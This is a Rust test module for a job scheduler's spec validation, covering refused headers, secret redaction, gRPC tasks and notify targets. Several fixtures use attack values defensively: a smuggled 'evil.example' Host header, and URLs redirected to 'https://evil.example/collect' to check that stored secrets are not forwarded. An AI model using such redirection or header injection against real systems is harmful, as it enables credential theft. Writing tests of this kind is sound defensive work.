                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","env":{"A":"1","A":"2"}}}"#,
                "task.env.A",
            ),
            (
                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"x"},"notify":[{"url":"https://h/","url":"https://e/"}]}"#,
                "notify[0].url",
            ),
        ] {
            let err = parse(body).unwrap_err();
            assert_eq!(err.field.as_deref(), Some(field), "{body}");
            assert!(err.message.contains("twice"), "{}", err.message);
        }
    }

    #[test]
    fn http_headers_etcron_and_the_client_set_are_refused() {
        for (headers, field) in [
            (r#""headers":{"X-Etcron-Fencing-Token":"999999"}"#, "task.headers.X-Etcron-Fencing-Token"),
            (r#""headers":{"x-etcron-job":"other"}"#, "task.headers.x-etcron-job"),
            (r#""headers":{"Host":"evil.example"}"#, "task.headers.Host"),
            (r#""headers":{"Content-Length":"5"}"#, "task.headers.Content-Length"),
            (r#""headers":{"Transfer-Encoding":"chunked"}"#, "task.headers.Transfer-Encoding"),
            (r#""secret_headers":{"X-Etcron-Attempt":"1"}"#, "task.secret_headers.X-Etcron-Attempt"),
            (r#""headers":{"X-A":"a\u0007b"}"#, "task.headers.X-A"),
            (r#""secret_headers":{"X-A":"a\u001bb"}"#, "task.secret_headers.X-A"),
        ] {
            let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://h/",{headers}}}}}"#);
            assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
        }
        let ok = r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","headers":{"User-Agent":"me","Content-Type":"application/json","X-A":"a\tb"}}}"#;
        assert!(parse(ok).is_ok());
    }

    #[test]
    fn values_that_can_never_work_are_refused_at_save_time() {
        for url in ["http://[::1", "http://h:99999/", "http://h:x/"] {
            let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"{url}"}}}}"#);
            assert_eq!(field_of(&body).as_deref(), Some("task.url"), "{body}");
        }
        for timeout in ["0.0001ms", "999us", "1ns"] {
            let body =
                format!(r#"{{"schedule":"@daily","timeout":"{timeout}","task":{{"kind":"shell","command":"true"}}}}"#);
            assert_eq!(field_of(&body).as_deref(), Some("timeout"), "{body}");
        }
        let body = r#"{"schedule":"@daily","timeout":"1ms","task":{"kind":"shell","command":"true"}}"#;
        assert!(parse(body).is_ok());
    }

    #[test]
    fn names() {
        assert!(validate_name("db-backup").is_ok());
        assert_eq!(validate_name("DB").unwrap_err().field.as_deref(), Some("name"));
    }

    #[test]
    fn secrets_are_withheld_and_kept_on_replace() {
        let stored = JobSpec::from_json(
            br#"{"schedule":"@daily","task":{"kind":"shell","command":"x","env":{"A":"1"},"secret_env":{"PW":"hunter2"}}}"#,
        )
        .unwrap();
        let shown = serde_json::to_value(stored.redacted()).unwrap();
        assert_eq!(shown["task"]["secret_env"]["PW"], serde_json::Value::Null);
        assert_eq!(shown["task"]["env"]["A"], "1");
        assert!(!shown.to_string().contains("hunter2"));
        // A PUT of what was shown keeps the stored secret; a new secret without value is refused.
        let mut again: JobSpec = JobSpec::from_value(shown.clone()).unwrap();
        again.keep_secrets(Some(&stored)).unwrap();
        assert_eq!(again, stored);
        let mut fresh = JobSpec::from_value(shown).unwrap();
        assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "task.secret_env.PW");
        // Secrets are validated like the plain ones, and never given twice.
        for (body, field) in [
            (
                r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","secret_env":{"ETCRON_X":"1"}}}"#,
                "task.secret_env.ETCRON_X",
            ),
            (
                r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","env":{"A":"1"},"secret_env":{"A":"2"}}}"#,
                "task.secret_env.A",
            ),
            (
                r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","secret_env":{"1A":"2"}}}"#,
                "task.secret_env.1A",
            ),
            (
                r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","headers":{"authorization":"a"},"secret_headers":{"Authorization":"b"}}}"#,
                "task.secret_headers.Authorization",
            ),
            (
                r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","secret_headers":{"X":"a\nb"}}}"#,
                "task.secret_headers.X",
            ),
        ] {
            assert_eq!(JobSpec::from_json(body.as_bytes()).unwrap_err().field.as_deref(), Some(field), "{body}");
        }
    }

    #[test]
    fn url_passwords_are_shown_redacted_and_secrets_do_not_follow_a_new_destination() {
        let body = r#"{"schedule":"@daily","task":{"kind":"http","url":"https://alice:s3cret@api.example/v1",
            "secret_headers":{"X-Api-Key":"k1"}},
            "notify":[{"name":"n","url":"https://bob:pw@hooks.example/x","secret_headers":{"Authorization":"t"}}]}"#;
        let stored = parse(body).unwrap();
        let shown = serde_json::to_value(stored.redacted()).unwrap();
        assert_eq!(shown["task"]["url"], "https://alice:redacted@api.example/v1");
        assert_eq!(shown["notify"][0]["url"], "https://bob:redacted@hooks.example/x");
        assert!(!shown.to_string().contains("s3cret") && !shown.to_string().contains(":pw@"));
        // Sent back as shown: every secret, URL passwords included, is kept.
        let mut again = JobSpec::from_value(shown.clone()).unwrap();
        assert!(again.withholds_secrets());
        again.keep_secrets(Some(&stored)).unwrap();
        assert_eq!(again, stored);
        // A new destination with a kept secret: give the secret again.
        let mut moved = shown.clone();
        moved["task"]["url"] = serde_json::json!("https://evil.example/collect");
        let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
        assert_eq!(err.field, "task.secret_headers.X-Api-Key");
        assert!(err.why.contains("destination changed"), "{}", err.why);
        let mut moved = shown.clone();
        moved["notify"][0]["url"] = serde_json::json!("https://bob:redacted@evil.example/x");
        let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
        assert_eq!(err.field, "notify[0].url");
        let mut moved = shown;
        moved["notify"][0]["url"] = serde_json::json!("https://evil.example/x");
        let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
        assert_eq!(err.field, "notify[0].secret_headers.Authorization");
    }

    #[test]
    fn secrets_are_withheld_by_one_rule_from_specs_and_from_raw_json() {
        let body = r#"{"schedule":"@daily","task":{"kind":"http","url":"https://alice:pw@h.example/x",
            "secret_headers":{"X-Key":"k-1"}},
            "notify":[{"url":"https://bob:pw2@hooks.example/x","secret_headers":{"Authorization":"a"}},
                      {"name":"ops","secret_url":"https://hooks.slack.com/services/T/B/X"}]}"#;
        let spec = parse(body).unwrap();
        let from_spec = serde_json::to_value(spec.redacted()).unwrap();
        let from_json = redacted_json(serde_json::to_value(&spec).unwrap());
        assert_eq!(from_spec, from_json);
        let text = from_json.to_string();
        for secret in ["pw@", "pw2@", "k-1", "\"a\"", "services/T"] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
        // Raw values that are no spec are withheld all the same.
        let raw = serde_json::json!({"task": {"secret_env": "not a map", "url": "https://u:p@h/"}, "notify": [{"secret_url": 5}]});
        let shown = redacted_json(raw);
        assert_eq!(shown["task"]["secret_env"], serde_json::Value::Null);
        assert_eq!(shown["notify"][0]["secret_url"], serde_json::Value::Null);
        assert!(!shown.to_string().contains(":p@"));
    }

    #[test]
    fn grpc_tasks_round_trip_with_defaults_and_errors_name_the_field() {
        let body = r#"{"schedule":"@every 10s","task":{"kind":"grpc","endpoint":"http://127.0.0.1:50051",
            "method":"etcron.test.Echo/Echo","request":{"text":"hi","count":2},"metadata":{"x-team":"data"},
            "secret_metadata":{"authorization":"Bearer t"}}}"#;
        let spec = parse(body).unwrap();
        let Task::Grpc(grpc) = &spec.task else { panic!("{:?}", spec.task) };
        assert_eq!(grpc.request, serde_json::json!({"text": "hi", "count": 2}));
        assert_eq!((spec.task.kind(), spec.task.destination_url()), ("grpc", Some("http://127.0.0.1:50051")));
        assert_eq!(parse(&serde_json::to_string(&spec).unwrap()).unwrap(), spec);
        let minimal =
            parse(r#"{"schedule":"@daily","task":{"kind":"grpc","endpoint":"https://api.example","method":"a.B/C"}}"#);
        let shown = serde_json::to_value(minimal.unwrap()).unwrap();
        assert_eq!(shown["task"]["request"], serde_json::json!({}), "the default request is the empty message");
        let task = |t: &str| format!(r#"{{"schedule":"@daily","task":{{"kind":"grpc",{t}}}}}"#);
        let at = r#""endpoint":"http://h:1","method":"a.B/C""#;
        for (body, field) in [
            (task(r#""endpoint":"http://h:1""#), "task.method"),
            (task(r#""method":"a.B/C""#), "task.endpoint"),
            (task(r#""endpoint":"http://h:1","method":"a.B.C""#), "task.method"),
            (task(r#""endpoint":"h:1","method":"a.B/C""#), "task.endpoint"),
            (task(r#""endpoint":"http://h:1/a.B/C","method":"a.B/C""#), "task.endpoint"),
            (task(&format!(r#"{at},"request":[1]"#)), "task.request"),
            (task(&format!(r#"{at},"request":"{{}}""#)), "task.request"),
            (
                task(&format!(r#"{at},"request":{{"a":"{}"}}"#, "x".repeat(crate::grpc::MAX_REQUEST_BYTES))),
                "task.request",
            ),
            (task(&format!(r#"{at},"metadata":{{"X-Key":"v"}}"#)), "task.metadata.X-Key"),
            (task(&format!(r#"{at},"metadata":{{"x-etcron-job":"v"}}"#)), "task.metadata.x-etcron-job"),
            (task(&format!(r#"{at},"metadata":{{"grpc-timeout":"1S"}}"#)), "task.metadata.grpc-timeout"),
            (task(&format!(r#"{at},"metadata":{{"a":"é"}}"#)), "task.metadata.a"),
            (task(&format!(r#"{at},"secret_metadata":{{"a":"1"}},"metadata":{{"a":"2"}}"#)), "task.secret_metadata.a"),
            (task(&format!(r#"{at},"descriptor_set":"not base64!""#)), "task.descriptor_set"),
            (task(&format!(r#"{at},"headers":{{}}"#)), "task.headers"),
            (format!(r#"{{"schedule":"@daily","limits":{{"cpu":"1s"}},"task":{{"kind":"grpc",{at}}}}}"#), "limits.cpu"),
        ] {
            assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
        }
    }

    #[test]
    fn grpc_secret_metadata_is_withheld_and_kept_for_the_same_endpoint_only() {
        let body = r#"{"schedule":"@daily","task":{"kind":"grpc","endpoint":"https://api.example:8443",
            "method":"a.B/C","secret_metadata":{"authorization":"Bearer s3cret"}}}"#;
        let stored = parse(body).unwrap();
        let shown = serde_json::to_value(stored.redacted()).unwrap();
        assert_eq!(shown["task"]["secret_metadata"]["authorization"], serde_json::Value::Null);
        assert!(!shown.to_string().contains("s3cret"));
        assert_eq!(shown, redacted_json(serde_json::to_value(&stored).unwrap()), "one rule for specs and raw JSON");
        let mut again = JobSpec::from_value(shown.clone()).unwrap();
        assert!(again.task_withholds_secrets());
        again.keep_secrets(Some(&stored)).unwrap();
        assert_eq!(again, stored);
        let mut moved = shown.clone();
        moved["task"]["endpoint"] = serde_json::json!("https://evil.example:8443");
        let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
        assert_eq!(err.field, "task.secret_metadata.authorization");
        assert!(err.why.contains("destination changed"), "{}", err.why);
        let mut fresh = JobSpec::from_value(shown).unwrap();
        assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "task.secret_metadata.authorization");
        let mut other = stored.clone();
        if let Task::Grpc(g) = &mut other.task {
            g.secret_metadata.insert("authorization".to_owned(), Some("Bearer new".to_owned()));
        }
        assert_eq!(other.task.changed_secrets(&stored.task), ["task.secret_metadata.authorization"]);
    }

    #[test]
    fn notify_targets_are_validated_and_their_secrets_withheld() {
        let body = r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},
            "notify":[{"url":"https://h/x"},{"name":"ops","secret_url":"https://hooks.slack.com/services/T/B/X","format":"slack","on":["failure","missed"]}]}"#;
        let stored = parse(body).unwrap();
        let targets = stored.notify.as_ref().unwrap();
        assert_eq!(targets.len(), 2);
        let shown = serde_json::to_value(stored.redacted()).unwrap();
        assert_eq!(shown["notify"][1]["secret_url"], serde_json::Value::Null);
        assert_eq!(shown["notify"][0]["url"], "https://h/x");
        assert!(!shown.to_string().contains("services/T"));
        let mut again = JobSpec::from_value(shown.clone()).unwrap();
        assert!(again.withholds_secrets() && !again.task_withholds_secrets());
        again.keep_secrets(Some(&stored)).unwrap();
        assert_eq!(again, stored);
        let mut fresh = JobSpec::from_value(shown).unwrap();
        assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "notify[1].secret_url");
        // `[]` means no notifications and stays `[]`; absent stays absent.
        let none = parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"notify":[]}"#).unwrap();
        assert_eq!(none.notify.as_deref(), Some(&[][..]));
        assert_eq!(serde_json::to_value(&none).unwrap()["notify"], serde_json::json!([]));
        let absent = parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"}}"#).unwrap();
        assert!(absent.notify.is_none() && serde_json::to_value(&absent).unwrap().get("notify").is_none());
        for (notify, field) in [
            (r#"[{"url":"https://h/x","on":["failure","boom"]}]"#, "notify[0].on[1]"),
            (r#"[{"url":"https://h/x"},{"url":"gopher://h"}]"#, "notify[1].url"),
            (r#"[{"url":"https://h/x","format":"xml"}]"#, "notify[0].format"),
            (r#"[{"url":"https://h/x","extra":1}]"#, "notify[0].extra"),
            (r#"[["https://h/x"]]"#, "notify[0]"),
            (r#"{"url":"https://h/x"}"#, "notify"),
            (r#"[{"secret_url":"https://h/x","headers":{"User-Agent":"me"}}]"#, "notify[0].headers.User-Agent"),
        ] {
            let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"shell","command":"x"}},"notify":{notify}}}"#);
            assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
        }
    }

    /// Property tests: no JSON value makes validation panic; every refusal says what is wrong
    /// and names a field that exists (in the body, or in the spec's schema when it is missing);
    /// every accepted spec survives a trip through its own JSON.
    mod properties {
        use proptest::prelude::*;
        use proptest::test_runner::TestCaseResult;
        use serde_json::{json, Map, Value};

        use super::*;
        use crate::check::check;

        /// Field names of the spec (so generated objects often hit real fields) and some others.
        const NAMES: &[&str] = &[
            "notify",
            "on",
            "format",
            "secret_url",
            "name",
            "limits",
            "memory",
            "cpu",
            "open_files",
            "output",
            "schedule",
            "timezone",
            "enabled",
            "task",
            "kind",
            "command",
            "env",
            "secret_env",
            "cwd",
            "method",
            "url",
            "headers",
            "secret_headers",
            "body",
            "expect_status",
            "endpoint",
            "metadata",
            "secret_metadata",
            "descriptor_set",
            "timeout",
            "retries",
            "max",
            "backoff",
            "max_backoff",
            "concurrency",
            "misfire",
            "max_catchup",
            "start_deadline",
            "on_worker_loss",
            "mode",
            "sharded",
            "selector",
            "on_success",
            "on_failure",
            "description",
            "labels",
            "team",
            "max_output",
            "A",
            "ETCRON_X",
            "a.b",
        ];

        /// Strings that are valid somewhere in a spec, and some that are not.
        const WORDS: &[&str] = &[
            "* * * * *",
            "*/5 * * * * *",
            "@every 1s",
            "@at 2030-01-01T00:00:00Z",
            "@daily",
            "61 * * * *",
            "UTC",
            "Europe/Berlin",
            "Mars/Base",
            "shell",
            "http",
            "grpc",
            "a.B/C",
            "etcron.test.Echo/Echo",
            "x-api-key",
            "ftp",
            "true",
            "",
            " ",
            "10s",
            "0s",
            "1ns",
            "25h",
            "8d",
            "allow",
            "forbid",
            "replace",
            "skip",
            "run_once",
            "run_all",
            "rerun",
            "mark_lost",
            "single",
            "broadcast",
            "sharded",
            "http://h/",
            "https://x.example/p",
            "ftp://x",
            "GET",
            "POST",
            "BREW",
            "/",
            "relative",
            "job-b",
            "Bad Name",
            "a\nb",
            "64MiB",
            "2TiB",
            "1KiB",
            "30s",
            "1500ms",
            "a\0b",
            "failure",
            "recovery",
            "slack",
        ];

        fn leaf() -> impl Strategy<Value = Value> {
            prop_oneof![
                Just(Value::Null),
                any::<bool>().prop_map(Value::Bool),
                (-2i64..2000).prop_map(Value::from),
                any::<i64>().prop_map(Value::from),
                any::<u64>().prop_map(Value::from),
                any::<f64>().prop_map(Value::from),
                prop::sample::select(WORDS).prop_map(Value::from),
                any::<String>().prop_map(Value::from),
            ]
        }

        fn name() -> impl Strategy<Value = String> {
            prop_oneof![prop::sample::select(NAMES).prop_map(str::to_owned), "[A-Za-z_. -]{0,8}"]
        }

        /// Any JSON value, up to 4 levels deep.
        fn json_value() -> impl Strategy<Value = Value> {
            leaf().prop_recursive(4, 48, 6, |inner| {
                prop_oneof![
                    prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
                    prop::collection::vec((name(), inner), 0..8)
                        .prop_map(|entries| Value::Object(entries.into_iter().collect::<Map<_, _>>())),
                ]
            })
        }

        fn base_spec() -> impl Strategy<Value = Value> {
            prop::sample::select(vec![
                json!({"schedule": "* * * * *", "task": {"kind": "shell", "command": "true"}}),
                json!({"schedule": "*/5 * * * * *", "timezone": "Europe/Berlin", "enabled": false,
                    "task": {"kind": "shell", "command": "pg_dump db", "env": {"A": "1"},
                        "secret_env": {"PW": "x", "KEEP": null}, "cwd": "/"},
                    "timeout": "10m", "retries": {"max": 3, "backoff": "10s", "max_backoff": "5m"},
                    "concurrency": "forbid", "misfire": "run_all", "max_catchup": 5, "on_worker_loss": "mark_lost",
                    "mode": {"sharded": 4}, "selector": {"region": "eu"}, "on_success": ["job-b"],
                    "on_failure": ["alert"], "description": "d", "labels": {"team": "data"}, "max_output": 1024,
                    "limits": {"memory": "64MiB", "cpu": "10s", "open_files": 64, "output": 1024}}),
                json!({"schedule": "@every 10s", "mode": "broadcast", "task": {"kind": "http", "url": "https://h/x",
                    "method": "POST", "headers": {"X-A": "1"}, "secret_headers": {"Authorization": "t"},
                    "body": "{}", "expect_status": 204}}),
                json!({"schedule": "@every 10s", "task": {"kind": "grpc", "endpoint": "http://127.0.0.1:50051",
                    "method": "etcron.test.Echo/Echo", "request": {"text": "hi", "n": [1, 2]},
                    "metadata": {"x-a": "1"}, "secret_metadata": {"authorization": "t", "keep": null}}}),
                json!({"schedule": "@hourly", "task": {"kind": "shell", "command": "true"},
                    "notify": [{"url": "https://h/x", "on": ["failure", "success"], "headers": {"X-A": "1"}},
                        {"name": "ops", "secret_url": "https://hooks.example/T/B", "format": "slack",
                         "secret_headers": {"Authorization": "t"}}]}),
            ])
        }

        /// Where a mutation lands: the top level, or inside `task`, `retries` or `mode`.
        #[derive(Debug, Clone)]
        enum Edit {
            Set(Option<&'static str>, String, Value),
            Remove(Option<&'static str>, String),
        }

        fn edit() -> impl Strategy<Value = Edit> {
            let place = prop::sample::select(vec![
                None,
                Some("task"),
                Some("retries"),
                Some("mode"),
                Some("limits"),
                Some("notify"),
            ]);
            prop_oneof![
                3 => (place.clone(), name(), prop_oneof![leaf(), json_value()]).prop_map(|(p, n, v)| Edit::Set(p, n, v)),
                1 => (place, name()).prop_map(|(p, n)| Edit::Remove(p, n)),
            ]
        }

        /// A valid spec with a few fields changed, removed or added.
        fn near_spec() -> impl Strategy<Value = Value> {
            (base_spec(), prop::collection::vec(edit(), 0..4)).prop_map(|(mut spec, edits)| {
                for edit in edits {
                    let (place, name) = match &edit {
                        Edit::Set(p, n, _) | Edit::Remove(p, n) => (*p, n.clone()),
                    };
                    let target = match place {
                        None => Some(&mut spec),
                        // Edits of `notify` land in its first target.
                        Some("notify") => spec.get_mut("notify").and_then(|n| n.get_mut(0)),
                        Some(p) => spec.get_mut(p),
                    };
                    if let Some(Value::Object(map)) = target {
                        match edit {
                            Edit::Set(_, _, v) => {
                                map.insert(name, v);
                            }
                            Edit::Remove(..) => {
                                map.remove(&name);
                            }
                        }
                    }
                }
                spec
            })
        }

        /// Paths of the schema that an error may name although the body lacks them (missing
        /// fields); anything else it names must be in the body.
        const SCHEMA_PATHS: &[&str] = &[
            "schedule",
            "task",
            "task.kind",
            "task.command",
            "task.url",
            "task.endpoint",
            "task.method",
            "mode.sharded",
        ];

        /// Whether `path` (`a.b`, `a[0]`, keys may hold dots) leads somewhere in `value`.
        fn resolves(value: &Value, path: &str) -> bool {
            if path.is_empty() {
                return true;
            }
            match value {
                Value::Object(map) => map.iter().any(|(k, v)| {
                    path.strip_prefix(k.as_str()).is_some_and(|rest| {
                        rest.is_empty()
                            || rest.strip_prefix('.').is_some_and(|r| resolves(v, r))
                            || (rest.starts_with('[') && resolves(v, rest))
                    })
                }),
                Value::Array(items) => path
                    .strip_prefix('[')
                    .and_then(|r| r.split_once(']'))
                    .and_then(|(i, rest)| Some((items.get(i.parse::<usize>().ok()?)?, rest)))
                    .is_some_and(|(item, rest)| {
                        rest.is_empty() || rest.strip_prefix('.').is_some_and(|r| resolves(item, r))
                    }),
                _ => false,
            }
        }

        fn check_value(value: &Value) -> TestCaseResult {
            match JobSpec::from_value(value.clone()) {
                Err(e) => {
                    prop_assert!(!e.message.trim().is_empty(), "empty message for {}", value);
                    if let Some(field) = &e.field {
                        prop_assert!(
                            SCHEMA_PATHS.contains(&field.as_str()) || resolves(value, field),
                            "error names {:?}, which is not in {} ({})",
                            field,
                            value,
                            e.message
                        );
                    }
                }
                Ok(spec) => {
                    let again = serde_json::to_value(&spec).map_err(|e| TestCaseError::fail(e.to_string()))?;
                    prop_assert_eq!(JobSpec::from_value(again.clone()), Ok(spec.clone()), "{}", again);
                    let bytes = serde_json::to_vec(&spec).map_err(|e| TestCaseError::fail(e.to_string()))?;
                    prop_assert_eq!(JobSpec::from_json(&bytes), Ok(spec));
                }
            }
            Ok(())
        }

        #[test]
        fn arbitrary_json_is_refused_or_accepted_cleanly() {
            check(300, json_value(), |value| check_value(&value));
        }

        #[test]
        fn near_valid_specs_are_refused_at_a_real_field_or_round_trip() {
            check(600, near_spec(), |value| check_value(&value));
        }

        #[test]
        fn arbitrary_bytes_never_panic() {
            let bytes = prop_oneof![
                any::<Vec<u8>>(),
                near_spec().prop_map(|v| {
                    let mut b = serde_json::to_vec(&v).unwrap_or_default();
                    b.truncate(b.len() / 2 + 1);
                    b
                }),
            ];
            check(200, bytes, |bytes| {
                if let Err(e) = JobSpec::from_json(&bytes) {
                    prop_assert!(!e.message.is_empty());
                }
                Ok(())
            });
        }
    }
}
